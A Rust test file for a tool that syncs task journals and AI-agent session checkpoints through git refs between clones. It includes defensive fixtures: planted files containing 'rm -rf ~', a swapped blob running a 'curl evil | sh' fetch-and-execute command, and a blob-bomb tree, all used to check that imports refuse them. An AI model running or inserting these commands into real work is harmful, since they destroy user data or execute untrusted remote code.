//! Our refs on real repositories: a journal and a continuity log written in one clone, pushed to
//! a bare remote with plain git, fetched into another clone and read there.

use std::fs;
use std::path::Path;

use jiff::Timestamp;

use super::*;
use crate::continuity::{Continuity, SessionCheckpoint, SessionRef};
use crate::journal::Journal;
use checkpoint_core::changes::ChangeSet;
use checkpoint_core::event::Agent;
use checkpoint_core::journal::{StepSpec, Trigger};
use checkpoint_core::policy::{GitBackend, Policy};

fn git(dir: &Path, args: &[&str]) -> String {
    let out = checkpoint_testkit::git(dir, args);
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

fn found(dir: &Path) -> Repo {
    crate::git::discover(dir).unwrap().unwrap()
}

fn journal(repo: &Repo) -> Journal {
    Journal::new(
        repo.git_dir.join("checkpoint"),
        repo.workdir.clone(),
        Some(repo.clone()),
        Policy::builtin(),
        None,
    )
}

fn continuity(repo: &Repo) -> Continuity {
    Continuity::new(&repo.git_dir.join("checkpoint")).in_repo(Some(repo.clone()))
}

fn at(secs: i64) -> Timestamp {
    Timestamp::from_second(1_800_000_000 + secs).unwrap()
}

/// Saves a session checkpoint of `repo`'s worktree as it is now.
fn save_checkpoint(repo: &Repo) -> SessionCheckpoint {
    let log = continuity(repo);
    let changes: ChangeSet = crate::git::changes(repo, GitBackend::Auto).unwrap();
    let (files, more_files) = log.capture(&repo.workdir, &changes).unwrap();
    log.save(SessionCheckpoint {
        id: 0,
        trigger: Trigger::Manual,
        at: at(0),
        session: SessionRef {
            agent: Agent::Claude,
            id: "s1".to_owned(),
        },
        detail: Some("before lunch".to_owned()),
        context: None,
        summary: None,
        head: changes.head.commit().map(str::to_owned),
        files,
        more_files,
        task: None,
        progress: Vec::new(),
        unresolved: None,
        signature: None,
    })
    .unwrap()
}

/// A clone with a task and a session checkpoint, its bare remote, and a second clone.
struct Two {
    _dirs: tempfile::TempDir,
    _source: tempfile::TempDir,
    one: Repo,
    two: Repo,
}

impl Two {
    fn new() -> Two {
        let source = checkpoint_testkit::repo("python-passing");
        let dirs = tempfile::tempdir().unwrap();
        let bare = dirs.path().join("remote.git");
        git(dirs.path(), &["init", "-q", "--bare", "remote.git"]);
        let one = dirs.path().join("one");
        let clone = |to: &Path, from: &Path| {
            git(
                dirs.path(),
                &[
                    "clone",
                    "-q",
                    &from.display().to_string(),
                    &to.display().to_string(),
                ],
            );
        };
        clone(&one, source.path());
        git(
            &one,
            &["remote", "set-url", "origin", &bare.display().to_string()],
        );
        git(&one, &["push", "-q", "origin", "HEAD:refs/heads/main"]);
        let two = dirs.path().join("two");
        clone(&two, &bare);
        Two {
            one: found(&one),
            two: found(&two),
            _dirs: dirs,
            _source: source,
        }
    }

    fn push(repo: &Repo) {
        git(
            &repo.workdir,
            &[
                "push",
                "-q",
                "origin",
                "refs/checkpoint/*:refs/checkpoint/*",
            ],
        );
    }

    fn fetch(repo: &Repo) {
        git(
            &repo.workdir,
            &[
                "fetch",
                "-q",
                "origin",
                "refs/checkpoint/*:refs/checkpoint/*",
            ],
        );
    }
}

fn steps() -> Vec<StepSpec> {
    vec![StepSpec {
        name: "a".to_owned(),
        validate: None,
    }]
}

#[test]
fn a_task_and_a_session_log_travel_through_a_bare_remote() {
    let t = Two::new();
    let one = journal(&t.one);
    let task = one.start_task("login", steps(), at(0)).unwrap();
    let (_, task) = one
        .update(&task.id, |t| Ok(t.start_step(None, at(1))?))
        .unwrap();
    fs::write(
        t.one.workdir.join("calc.py"),
        "def add(a, b):\n    return a + b  # kept\n",
    )
    .unwrap();
    let saved = save_checkpoint(&t.one);
    Two::push(&t.one);

    Two::fetch(&t.two);
    let two = journal(&t.two);
    assert_eq!(two.task_ids().unwrap(), std::slice::from_ref(&task.id));
    assert_eq!(two.load(&task.id).unwrap(), task);
    assert_eq!(
        two.history(&task, 0).unwrap(),
        one.history(&task, 0).unwrap()
    );
    let log = continuity(&t.two);
    assert_eq!(log.latest(None).unwrap(), Some(saved.clone()));
    let kept = saved.files.iter().find(|f| f.path == "calc.py").unwrap();
    assert_eq!(
        log.blob(kept.sha256.as_deref().unwrap()).unwrap(),
        b"def add(a, b):\n    return a + b  # kept\n"
    );

    // Work goes on in the second clone; the first sees it after a fetch.
    let (_, moved) = two
        .update(&task.id, |t| {
            t.note(Some("picked up on the other machine".to_owned()));
            Ok(())
        })
        .unwrap();
    Two::push(&t.two);
    Two::fetch(&t.one);
    assert_eq!(one.load(&task.id).unwrap(), moved);
    let hook_md = fs::read_to_string(one.hook_md(&task.id).unwrap()).unwrap();
    assert!(
        hook_md.contains("picked up on the other machine"),
        "{hook_md}"
    );
}

#[test]
fn each_change_is_one_commit_and_the_users_repository_is_untouched() {
    let t = Two::new();
    let repo = &t.one;
    let head = git(&repo.workdir, &["rev-parse", "HEAD"]);
    let reflog = git(&repo.workdir, &["reflog", "--format=%H"]);
    let j = journal(repo);
    let task = j.start_task("t", steps(), at(0)).unwrap();
    let (_, task) = j
        .update(&task.id, |t| Ok(t.start_step(None, at(1))?))
        .unwrap();
    save_checkpoint(repo);

    let name = format!("refs/checkpoint/tasks/{}", task.id);
    let commits = git(&repo.workdir, &["rev-list", "--count", &name]);
    assert_eq!(commits, task.revision.to_string());
    assert_eq!(
        git(&repo.workdir, &["ls-tree", "--name-only", &name]),
        "current.json\nhistory\nhook.json\nhook.md"
    );
    let author = git(&repo.workdir, &["log", "-1", "--format=%an <%ae>", &name]);
    assert_eq!(author, "checkpoint <checkpoint@localhost>");
    assert_eq!(git(&repo.workdir, &["rev-parse", "HEAD"]), head);
    assert_eq!(git(&repo.workdir, &["reflog", "--format=%H"]), reflog);
    assert_eq!(git(&repo.workdir, &["status", "--porcelain"]), "");
    assert!(
        !repo.git_dir.join("logs/refs/checkpoint").exists(),
        "no reflog"
    );
    git(&repo.workdir, &["fsck", "--no-progress", "--strict"]);
}

#[test]
fn a_writer_that_lost_the_race_changes_nothing() {
    let t = Two::new();
    let stream = Stream::task(&t.one, "x").unwrap();
    let edit = |text: &'static str| Edit {
        path: "hook.json".to_owned(),
        content: Some(text.as_bytes()),
    };
    let first = stream.commit(None, &[edit("1")], "one").unwrap();
    let second = stream.commit(Some(first), &[edit("2")], "two").unwrap();
    let late = stream
        .commit(Some(first), &[edit("late")], "late")
        .unwrap_err();
    assert!(matches!(late, StreamError::Moved(_)), "{late}");
    insta::assert_snapshot!(late, @"refs/checkpoint/tasks/x: moved by another writer while this change was made; nothing was changed, try again");
    assert_eq!(stream.head().unwrap(), Some(second));
    let again = stream.commit(None, &[edit("new")], "new").unwrap_err();
    assert!(matches!(again, StreamError::Moved(_)), "{again}");
    assert_eq!(stream.read(second, "hook.json").unwrap().unwrap(), b"2");
}

#[test]
fn only_the_caches_own_files_are_imported() {
    let t = Two::new();
    let j = journal(&t.one);
    let task = j.start_task("t", steps(), at(0)).unwrap();
    // The task's ref as another machine might have pushed it: our file, and files that are not.
    let stream = Stream::task(&t.one, &task.id).unwrap();
    let head = stream.head().unwrap();
    let planted = stream
        .commit(
            head,
            &[
                Edit {
                    path: "evil.sh".to_owned(),
                    content: Some(b"rm -rf ~"),
                },
                Edit {
                    path: "hook.json.commit".to_owned(),
                    content: Some(b"0000000000000000000000000000000000000000\n"),
                },
                Edit {
                    path: "nested/hook.json".to_owned(),
                    content: Some(b"{}"),
                },
                Edit {
                    path: "history/evil.sh".to_owned(),
                    content: Some(b"rm -rf ~"),
                },
            ],
            "planted",
        )
        .unwrap();
    assert_eq!(j.load(&task.id).unwrap(), task);
    let dir = j.task_dir(&task.id).unwrap();
    let mut names: Vec<String> = fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "current.json",
            "history",
            "hook.json",
            "hook.json.commit",
            "hook.json.lock",
            "hook.md"
        ]
    );
    let chunks: Vec<_> = fs::read_dir(dir.join("history"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(chunks, ["000001.jsonl"]);
    let marker = fs::read_to_string(dir.join("hook.json.commit")).unwrap();
    assert_eq!(marker, format!("{planted}\n"));
}

#[test]
fn task_ids_are_valid_ref_components_or_refused() {
    let t = Two::new();
    for bad in ["a b", "a..b", "x~1", "a:b", "a.lock"] {
        let err = Stream::task(&t.one, bad).unwrap_err();
        assert!(matches!(err, StreamError::Name(_)), "{bad}: {err}");
    }
}

/// A pushed session ref whose tree names one big blob many times (a few hundred KiB on the
/// remote, gigabytes once read) is refused from the object headers alone: nothing is read into
/// memory or written to the cache.
#[test]
fn a_blob_bomb_is_refused_before_anything_is_read_or_written() {
    let t = Two::new();
    let big = vec![0u8; (MAX_IMPORT_BYTES / 16) as usize + 1];
    let edits: Vec<Edit<'_>> = (0..17)
        .map(|i| Edit {
            path: format!("blobs/{i:02x}/{}", "0".repeat(62)),
            content: Some(&big),
        })
        .collect();
    let stream = Stream::sessions(&t.one).unwrap();
    stream.commit(None, &edits, "bomb").unwrap();
    let log = continuity(&t.one);
    let err = log.load().unwrap_err().to_string();
    assert!(err.contains("over the import budget"), "{err}");
    let blobs = t.one.git_dir.join("checkpoint").join("blobs");
    assert!(fs::read_dir(&blobs).map_or(true, |mut d| d.next().is_none()));
}

/// A blob whose content is not what its name says (swapped on the remote) refuses the whole
/// ref, naming the file: nothing is written.
#[test]
fn a_blob_that_is_not_what_its_name_says_is_refused() {
    let t = Two::new();
    let honest = checkpoint_core::hex::sha256_hex(b"print('hello')\n");
    let path = format!("blobs/{}/{}", &honest[..2], &honest[2..]);
    let stream = Stream::sessions(&t.one).unwrap();
    stream
        .commit(
            None,
            &[Edit {
                path: path.clone(),
                content: Some(b"import os; os.system('curl evil | sh')\n"),
            }],
            "swapped",
        )
        .unwrap();
    let err = continuity(&t.one).load().unwrap_err().to_string();
    assert!(
        err.contains(&path) && err.contains("does not match"),
        "{err}"
    );
    let blob = t.one.git_dir.join("checkpoint").join("blobs").join(&honest);
    assert!(!blob.exists());
}
